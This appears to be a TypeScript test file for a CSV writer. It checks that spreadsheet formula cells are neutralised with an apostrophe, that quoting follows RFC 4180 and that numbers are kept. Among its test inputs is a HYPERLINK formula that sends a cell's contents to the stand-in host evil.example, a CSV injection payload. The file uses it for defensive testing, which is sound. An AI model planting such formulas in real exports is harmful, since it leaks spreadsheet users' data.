/** @module Tests: the one CSV cell writer: quoting, formulas neutralised, numbers kept, read back by a real parser. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { cell, csvRecord, numberCell, quoteCell, textCell, unneutralise } from './csv.js';

test('cells a spreadsheet would run as formulas get a leading apostrophe', () => {
  const cases: [string, string][] = [
    ['=1+1', `'=1+1`],
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ['@SUM(1)', `'@SUM(1)`],
    ['-2+3', `'-2+3`],
    ['+1', `'+1`],
    ['\t=1', `'\t=1`],
    ['\r=1', `"'\r=1"`],
    ['+24177123456', `'+24177123456`],
  ];
  for (const [value, written] of cases) assert.equal(textCell(value), written, JSON.stringify(value));
});

test('ordinary text is only quoted when RFC 4180 needs it', () => {
  assert.equal(textCell('NGUEMA Jean'), 'NGUEMA Jean');
  assert.equal(textCell('MBA, Paul'), '"MBA, Paul"');
  assert.equal(textCell('Bar "Le Palmier"'), '"Bar ""Le Palmier"""');
  assert.equal(textCell('a=b'), 'a=b', 'only the first character matters');
  assert.equal(quoteCell('=1+1'), '=1+1', 'quoteCell alone does not neutralise (registry files we generate)');
});

test('numbers we write stay numbers, a negative one included', () => {
  assert.equal(numberCell(-2), '-2');
  assert.equal(cell(-12.5), '-12.5');
  assert.equal(cell(20000), '20000');
  assert.equal(cell(null), '');
  assert.throws(() => numberCell(Number.NaN), /finite/);
});

test('a record reads back, through a real CSV parser, as the neutralised text; unneutralise gives the original', () => {
  const values = ['=1+1', '=HYPERLINK("x","y")', '@SUM(1)', '-2+3', '+1', 'plain, with comma', "'quoted already"];
  const line = csvRecord([...values, -3]);
  const [read] = parse(line) as string[][];
  assert.deepEqual(read.slice(0, -1).map(unneutralise), values);
  assert.equal(read.at(-1), '-3');
  assert.equal(read[0], `'=1+1`, 'what a spreadsheet sees is text');
  assert.equal(unneutralise("'quoted already"), "'quoted already", 'an apostrophe before ordinary text is kept');
});
